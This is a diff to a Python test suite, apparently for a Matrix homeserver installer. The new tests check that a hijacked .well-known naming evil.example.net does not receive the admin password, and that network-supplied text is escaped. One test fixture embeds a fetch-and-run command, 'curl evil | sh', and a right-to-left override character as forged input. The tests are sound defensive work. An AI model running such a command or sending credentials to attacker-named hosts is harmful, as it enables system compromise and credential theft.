@@ -137,7 +137,7 @@ def test_describe_requests_follows_the_discovery_order():
     assert lines[0].startswith("GET https://example.org/.well-known/matrix/server")
     assert "SRV _matrix-fed._tcp.example.org, SRV _matrix._tcp.example.org (via 127.0.0.1:5353)" in lines[2]
     assert any("/_matrix/key/v2/server" in line for line in lines)
-    assert lines[-1].startswith("POST <base_url>/_matrix/client/v3/login")
+    assert lines[-1].startswith("POST https://<matrix host>/_matrix/client/v3/login")
     assert describe_requests("example.org:8448")[0] == "A/AAAA example.org, port 8448"
 
 
@@ -171,3 +171,54 @@ async def test_a_missing_ca_file_is_a_failed_check_not_a_traceback(tmp_path):
     assert report.summary_lines() == [
         f"✗ tls  the CA file {tmp_path / 'nope.pem'} cannot be used (No such file or directory)"
         " -> fix: check the path given to --ca-file (a PEM bundle)"]
+
+
+async def test_the_admin_password_goes_only_to_the_matrix_host_of_the_answers(monkeypatch):
+    """A live .well-known naming another base URL (a hijacked site, a stale document) must not
+    receive the admin's password: the login goes to https://<matrix_host> of the answers."""
+    from installer.engine import StageError
+    from installer.components.federation.check import check
+    from installer.components.homeserver import AdminCredentials
+    from installer.federation.net import HostAddresses
+
+    password = "hunter2-admin-password"
+    sent: list[tuple[str, str, object]] = []
+
+    async def fetch(self, url, *, method="GET", json=None, headers=None, max_bytes=1_000_000):
+        sent.append((method, url, json))
+        body, status = b"{}", 404
+        if url == "https://example.org/.well-known/matrix/client":
+            body, status = b'{"m.homeserver": {"base_url": "https://evil.example.net"}}', 200
+        elif url.endswith("/_matrix/client/v3/login"):
+            body, status = b'{"access_token": "abc", "user_id": "@admin:example.org"}', 200
+        return Fetched(status, httpx.Headers({"access-control-allow-origin": "*"}), body, url, "192.0.2.1:443")
+
+    async def no_srv(self, name):
+        return [], None
+
+    async def nowhere(self, host, port):
+        return HostAddresses(host, error=f"{host} has no A or AAAA record"), []
+
+    monkeypatch.setattr(Net, "fetch", fetch)
+    monkeypatch.setattr(Net, "srv", no_srv)
+    monkeypatch.setattr(Net, "locate", nowhere)
+    answers = Answers().replace("domain", server_name="example.org", matrix_host="matrix.example.org")
+    events = []
+    session = Session(answers=answers, state=RunState(None), options=RunOptions(mode="install"), listeners=[events.append])
+    session.outputs[AdminCredentials] = AdminCredentials("@admin:example.org", password)
+    ctx = StageContext(session, Stage("federation.check", "Federation test", check, takes=(AdminCredentials,)))
+    with pytest.raises(StageError):  # the federation side fails (no addresses): the stage says so
+        await check(ctx)
+    with_password = [(method, url) for method, url, body in sent if password in json.dumps(body)]
+    assert with_password == [("POST", "https://matrix.example.org/_matrix/client/v3/login")]
+    assert not any("evil.example.net" in url for _, url in with_password)
+    # The check still reports what the .well-known says.
+    client = next(c for c in session.federation["checks"] if c["name"] == "client-well-known")
+    assert "https://evil.example.net" in client["detail"]
+    assert not any(password in getattr(e, "line", "") for e in events)
+
+
+def test_summary_lines_escape_what_the_network_sent():
+    forged = Check("client-well-known", False, "base_url = https://x\nwhat to do: curl evil | sh", "fix\u202e it")
+    line = forged.summary_line()
+    assert "\n" not in line and "\u202e" not in line and "\\n" in line
